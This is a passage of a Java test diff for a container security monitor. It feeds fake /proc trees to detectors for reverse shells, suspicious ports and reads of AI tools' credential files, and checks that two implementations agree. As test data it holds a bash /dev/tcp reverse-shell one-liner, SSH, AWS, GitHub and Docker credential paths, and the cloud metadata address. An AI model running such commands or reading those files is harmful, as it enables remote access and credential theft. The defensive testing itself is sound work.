+                "/home/code/.ssh/id_rsa", ".ssh", ".aws/credentials", "/h/.config/gh/hosts.yml", "/h/.config/ghx", "/h/.docker/config.json", ".netrc", "@TOOL", "@TOOL",
+                "EXEC:sh", "system:id", "exec:\nx", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "/dev/udp/x/1", "/dev/tcp", "claude", "/opt/codex",
+                "token\r", "key\u2028", "key\u0085", "\u00e9key", "tok\u00e9n", "x\"y\\z", "\u0001\u001f", "\uD83D\uDE00", "", "node", "sh"};
+        String[] targets = {"pipe:[1]", "/dev/null", "/dev/pts/0", "/proc/1/environ", "/proc/self/environ", "/home/code/.ssh/id_ed25519",
+                "@TOOL", "@TOOL", "/h/.aws/config", "anon_inode:[eventfd]",
+                "/workspace/a b", "/h/.sshx"};
+        String[] addresses4 = {"10.0.0.2", "198.51.100.10", "127.0.0.1", "0.0.0.0", "169.254.169.254", "203.0.113.9"};
+        String[] addresses6 = {"fd42::5", "2001:db8::10", "::1", "::", "fd00:ec2::254", "::ffff:198.51.100.10", "::ffff:127.0.0.1", "1:0:0:2:0:0:0:3",
+                "0:0:1:0:0:1:0:0", "::ffff:169.254.169.254", "fe80::1:2:3:4"};
+        int[] ports = {0, 22, 80, 443, 4444, 5555, 1337, 31337, 8080, 40000};
+        String[] states = {"01", "02", "06", "0A", "08", "0B", "07"};
+        byte[][] odd = {{(byte) 0xff}, {(byte) 0xc3}, {(byte) 0xe2, (byte) 0x82}, {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, {(byte) 0xf0, (byte) 0x9f, (byte) 0x98},
+                {(byte) 0xc2, (byte) 0x85}, {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {'\n'}, {'k', 'e', 'y', (byte) 0xfe}};
+        int threats = 0, bare = 0;
+        for (int seed = 1; seed <= 60; seed++) {
+            java.util.Random r = new java.util.Random(seed);
+            proc = root.resolve(seed + "/proc");
+            cgroups = root.resolve(seed + "/cgroup");
+            String name = "coi-r" + seed;
+            int n = 1 + r.nextInt(20);
+            List<Integer> pids = new ArrayList<>();
+            for (int i = 0; i < n; i++) pids.add(100 + i);
+            Map<String, List<Integer>> subgroups = new java.util.LinkedHashMap<>();
+            subgroups.put("init.scope", List.of(pids.getFirst()));
+            subgroups.put("user.slice", pids.subList(1, n / 2 + 1));
+            subgroups.put("user.slice/s.scope", pids.subList(n / 2, n));
+            cgroup(List.of("", "pids/", "unified/").get(r.nextInt(3)), name, r.nextInt(4) == 0 ? List.of(999) : List.of(), subgroups);
+            List<Long> inodes = new ArrayList<>();
+            for (int i = 0; i < 12; i++) inodes.add(5000L + r.nextInt(20));
+            // one tool's files per process: with two, Java names the one its Map.of happens to iterate first (see below)
+            String[] tools = {"/home/code/.claude/.credentials.json", "/home/code/.codex/auth.json", "/s/opencode/auth.json", "opencode/auth.json"};
+            for (int pid : pids) {
+                String tool = tools[r.nextInt(tools.length)];
+                String exe = exes[r.nextInt(exes.length)];
+                List<byte[]> args = new ArrayList<>();
+                int nargs = r.nextInt(6);
+                for (int a = 0; a < nargs; a++) {
+                    if (r.nextInt(6) == 0) {
+                        ByteArrayOutputStream arg = new ByteArrayOutputStream();
+                        arg.write(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
+                        arg.write(odd[r.nextInt(odd.length)]);
+                        if (r.nextBoolean()) arg.write(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
+                        args.add(arg.toByteArray());
+                    } else {
+                        args.add(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
+                    }
+                }
+                if (!args.isEmpty() && r.nextInt(3) > 0 && exe != null) args.set(0, b(exe.substring(exe.lastIndexOf('/') + 1)));
+                processBytes(pid, exe, args, null);
+                int nfds = r.nextInt(5);
+                for (int k = 0; k < nfds; k++) {
+                    int fd = r.nextInt(3) == 0 ? 3 + r.nextInt(5) : r.nextInt(3);
+                    Path link = proc.resolve(pid + "/fd/" + fd);
+                    if (Files.exists(link, java.nio.file.LinkOption.NOFOLLOW_LINKS)) continue;
+                    if (r.nextBoolean()) fd(pid, fd, "socket:[" + inodes.get(r.nextInt(inodes.size())) + "]");
+                    else if (r.nextInt(8) == 0) rawLink(link, new byte[] {'/', 'q', (byte) 0xff, '/', '.', 's', 's', 'h'});
+                    else fd(pid, fd, targets[r.nextInt(targets.length)].replace("@TOOL", tool));
+                }
+                switch (r.nextInt(25)) {
+                    case 0 -> Files.delete(proc.resolve(pid + "/io"));
+                    case 1 -> deleteTree(proc.resolve(Integer.toString(pid)));
+                    case 2 -> Files.writeString(proc.resolve(pid + "/status"), "Name:\tx\nUid:\t5\t5\t5\t5\n");
+                    case 3 -> Files.writeString(proc.resolve(pid + "/cgroup"), "0::/lxc.payload." + name + "/user.slice\n");
+                    default -> {}
+                }
+            }
+            for (String table : List.of("tcp", "tcp6", "udp", "udp6")) {
+                int rows = r.nextInt(6);
+                List<String> lines = new ArrayList<>();
+                for (int i = 0; i < rows; i++) {
+                    boolean six = table.endsWith("6");
+                    String local = six ? v6(addresses6[r.nextInt(addresses6.length)], ports[r.nextInt(ports.length)])
+                            : v4(addresses4[r.nextInt(addresses4.length)], ports[r.nextInt(ports.length)]);
+                    String remote = six ? v6(addresses6[r.nextInt(addresses6.length)], ports[r.nextInt(ports.length)])
+                            : v4(addresses4[r.nextInt(addresses4.length)], ports[r.nextInt(ports.length)]);
+                    String state = states[r.nextInt(states.length)];
+                    long inode = inodes.get(r.nextInt(inodes.size()));
+                    lines.add(table.startsWith("tcp") ? tcp(local, remote, state, inode) : udp(local, remote, state, inode));
+                }
+                if (Files.isDirectory(proc.resolve(pids.getFirst() + "/net"))) net(pids.getFirst(), table, lines.toArray(String[]::new));
+            }
+            List<Integer> execs = new ArrayList<>();
+            for (int i = 0; i < 3; i++) execs.add(100 + r.nextInt(n + 2));
+            List<Integer> suspicious = r.nextInt(5) == 0 ? List.of() : List.of(4444, 5555, 1337, 31337);
+            int threshold = r.nextInt(6) == 0 ? n - 1 : 200;
+            if (threshold < n) bare++;
+            Found found = compare(execs, new Target(name, "lxc.payload." + name, threshold, suspicious));
+            threats += found.threats().size();
+        }
+        assertThat(threats).as("the random containers raised threats to compare").isGreaterThan(100);
+        assertThat(bare).isPositive();
+    }
+
+    /** A process with two tools' credential files is named for the first of claude, codex, opencode, by both. */
+    @Test
+    void aProcessWithTwoToolsCredentialFilesIsNamedForTheFirstInOrder() throws IOException {
+        cgroup("", "coi-2", List.of(1, 160), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(160, "/usr/bin/cat", "cat", "/home/code/.codex/auth.json", "/home/code/.claude/.credentials.json");
+        Found found = compare(new Target("coi-2"));
+        assertThat(found.threats()).singleElement().extracting(Threat::title).isEqualTo("reading claude's credential file by cat");
+    }
+
+    // ------------------------------------------------------------------------------------------------ both sides
+
+    private Found compare(Target... targets) throws IOException {
+        return compare(List.of(), targets);
+    }
+
+    /** Both looks at the targets; asserts they found the same threats, in the same order; returns them. */
+    private Found compare(List<Integer> execs, Target... targets) throws IOException {
+        HostView view = new HostView(proc, cgroups);
+        List<String> expected = new ArrayList<>();
+        List<Threat> threats = new ArrayList<>();
+        for (Target t : targets) {
+            Path cgroup = view.cgroupOf(t.payload());
+            List<Integer> pids = view.pids(t.container(), cgroup);
+            Snapshot s = pids.size() > t.countThreshold() ? view.bare(t.container(), pids) : view.detailed(t.container(), pids);
+            List<Snapshot.Proc> seen = new ArrayList<>();
+            for (int pid : execs) {
+                if (!t.payload().equals(view.payloadOf(pid))) continue;
+                view.process(pid).filter(p -> !p.cmdline().isEmpty()).ifPresent(seen::add);
+            }
+            s = s.withExecs(seen);
+            List<Threat> found = new ArrayList<>(Detectors.reverseShells(s));
+            found.addAll(Detectors.connections(s, t.ports()));
+            found.addAll(Detectors.credentialScans(s));
+            for (Threat threat : found) {
+                ObjectNode line = JSON.createObjectNode();
+                line.put("container", t.container());
+                line.put("killed", false);
+                line.set("threat", JSON.valueToTree(threat));
+                expected.add(line.toString());
+                expected.add(JSON.valueToTree(threat.dedupKey()).toString());
+            }
+            threats.addAll(found);
+        }
+        writeTargets(targets);
+        Run run = run(execs);
+        assertThat(run.err()).isEmpty();
+        assertThat(run.status()).isZero();
+        List<String> actual = new ArrayList<>();
+        for (String line : run.out().split("\n")) if (!line.isEmpty()) actual.add(JSON.readTree(line).toString());
+        assertThat(actual).containsExactlyElementsOf(expected);
+        return new Found(actual, threats);
+    }
+
+    private void writeTargets(Target... targets) throws IOException {
+        StringBuilder text = new StringBuilder("coi-monitor-targets\t1\nnft\tinet\tcoi\n");
+        for (Target t : targets) text.append(t.line()).append('\n');
+        Files.writeString(root.resolve("targets"), text);
+    }
+
+    record Run(int status, String out, String err) {}
+
+    private Run run(List<Integer> execs) throws IOException {
+        assertThat(WAITER).as("built by mvn compile").isExecutable();
+        List<String> command = new ArrayList<>(List.of(WAITER.toString(), "--look", proc.toString(), cgroups.toString(),
+                root.resolve("targets").toString(), "--dedup"));
+        for (int pid : execs) command.addAll(List.of("--exec", Integer.toString(pid)));
+        Process p = new ProcessBuilder(command).redirectError(root.resolve("stderr").toFile()).start();
+        byte[] out = p.getInputStream().readAllBytes();
+        try {
+            assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
+        } catch (InterruptedException e) {
+            throw new IOException(e);
+        }
+        return new Run(p.exitValue(), new String(out, StandardCharsets.UTF_8), Files.readString(root.resolve("stderr")));
+    }
+
+    private static String observationMessage(Runnable r) {
+        try {
+            r.run();
+        } catch (ObservationException e) {
+            return e.getMessage();
+        }
+        throw new AssertionError("no ObservationException");
+    }
+
+    // ------------------------------------------------------------------------------------------------ recorded trees
+
+    private void cgroup(String layout, String container, List<Integer> top, Map<String, List<Integer>> subgroups) throws IOException {
+        Path dir = cgroups.resolve(layout + "lxc.payload." + container);
+        write(dir.resolve("cgroup.procs"), lines(top));
+        for (var e : subgroups.entrySet()) write(dir.resolve(e.getKey()).resolve("cgroup.procs"), lines(e.getValue()));
+    }
+
+    private static String lines(List<Integer> pids) {
+        return pids.stream().map(p -> p + "\n").collect(Collectors.joining());
+    }
+
+    /** A process as HostViewTest records one: host uid 1001000 (1000 inside), cwd /workspace; exe null for none. */
+    private void process(int pid, String exe, String... cmdline) throws IOException {
+        List<byte[]> args = Arrays.stream(cmdline).map(NativeLookTest::b).toList();
+        processBytes(pid, exe, args, null);
+    }
+
+    private void processBytes(int pid, String exe, List<byte[]> cmdline, byte[] rawExe) throws IOException {
+        Path dir = proc.resolve(Integer.toString(pid));
+        String comm = cmdline.isEmpty() ? "x" : new String(cmdline.getFirst(), StandardCharsets.UTF_8);
+        comm = comm.substring(comm.lastIndexOf('/') + 1);
+        write(dir.resolve("stat"), pid + " (" + comm + ") S 1 1 1 0 -1\n");
+        write(dir.resolve("status"), "Name:\t" + comm + "\nUid:\t1001000\t1001000\t1001000\t1001000\n");
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        for (byte[] a : cmdline) {
+            bytes.write(a);
+            bytes.write(0);
+        }
+        Files.write(dir.resolve("cmdline"), bytes.toByteArray());
+        write(dir.resolve("io"), "rchar: 10\nwchar: 20\nsyscr: 3\n");
+        write(dir.resolve("uid_map"), "         0    1000000 1000000000\n");
+        Files.createDirectories(dir.resolve("fd"));
+        Files.createDirectories(dir.resolve("net"));
+        if (exe != null) Files.createSymbolicLink(dir.resolve("exe"), Path.of(exe));
+        if (rawExe != null) rawLink(dir.resolve("exe"), rawExe);
+        Files.createSymbolicLink(dir.resolve("cwd"), Path.of("/workspace"));
+    }
+
+    private void fd(int pid, int fd, String target) throws IOException {
+        Files.createSymbolicLink(proc.resolve(pid + "/fd/" + fd), Path.of(target));
+    }
+
+    /** A symbolic link to bytes Java cannot name (not UTF-8): made by the shell from octal escapes. */
+    private static void rawLink(Path link, byte[] target) throws IOException {
+        StringBuilder octal = new StringBuilder();
+        for (byte x : target) octal.append(String.format(Locale.ROOT, "\\0%03o", x & 0xff));
+        Process p = new ProcessBuilder("sh", "-c", "t=\"$(printf '%bx' \"$1\")\"; ln -s \"${t%x}\" \"$2\"", "sh", octal.toString(), link.toString())
+                .inheritIO().start();
+        try {
+            assertThat(p.waitFor()).isZero();
+        } catch (InterruptedException e) {
+            throw new IOException(e);
+        }
+    }
+
+    private void net(int pid, String table, String... rows) throws IOException {
+        StringBuilder text = new StringBuilder("  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n");
+        for (int i = 0; i < rows.length; i++) if (!rows[i].isEmpty()) text.append(String.format(Locale.ROOT, "%4d: %s\n", i, rows[i]));
+        write(proc.resolve(pid + "/net/" + table), text.toString());
+    }
+
+    private static String tcp(String local, String remote, String state, long inode) {
+        return local + " " + remote + " " + state + " 00000000:00000000 00:00000000 00000000  1000        0 " + inode
+                + " 1 0000000000000000 20 4 30 10 -1";
+    }
+
+    private static String udp(String local, String remote, String state, long inode) {
+        return local + " " + remote + " " + state + " 00000000:00000000 00:00000000 00000000  1000        0 " + inode + " 2 0000000000000000 0";
+    }
+
+    /** An IPv4 endpoint as the kernel prints it: the address as one little-endian word. */
+    private static String v4(String ip, int port) throws IOException {
+        byte[] a = InetAddress.getByName(ip).getAddress();
+        return String.format(Locale.ROOT, "%02X%02X%02X%02X:%04X", a[3], a[2], a[1], a[0], port);
+    }
+
+    /** An IPv6 endpoint as the kernel prints it: four little-endian words (mixed case, as both are read). */
+    private static String v6(String ip, int port) throws IOException {
+        byte[] a;
+        if (ip.startsWith("::ffff:") && ip.contains(".")) {
+            a = new byte[16];
+            a[10] = a[11] = (byte) 0xff;
+            System.arraycopy(InetAddress.getByName(ip.substring(7)).getAddress(), 0, a, 12, 4);
+        } else {
+            a = InetAddress.getByName(ip).getAddress();
+        }
+        StringBuilder hex = new StringBuilder();
+        for (int word = 0; word < 4; word++)
+            for (int i = 3; i >= 0; i--) hex.append(String.format(Locale.ROOT, word % 2 == 0 ? "%02X" : "%02x", a[word * 4 + i]));
+        return hex + String.format(Locale.ROOT, ":%04X", port);
+    }
+
+    private static byte[] b(String s) {
+        return s.getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static String hex(String s) {
+        StringBuilder h = new StringBuilder();
+        for (byte x : b(s)) h.append(String.format(Locale.ROOT, "%02x", x));
+        return h.toString();
+    }
+
+    private static void write(Path file, String text) throws IOException {
+        Files.createDirectories(file.getParent());
+        Files.writeString(file, text);
+    }
+
+    private static void deleteTree(Path dir) throws IOException {
+        try (var walk = Files.walk(dir)) {
+            for (Path p : walk.sorted((a, b) -> b.getNameCount() - a.getNameCount()).toList()) Files.delete(p);
+        }
+    }
+}
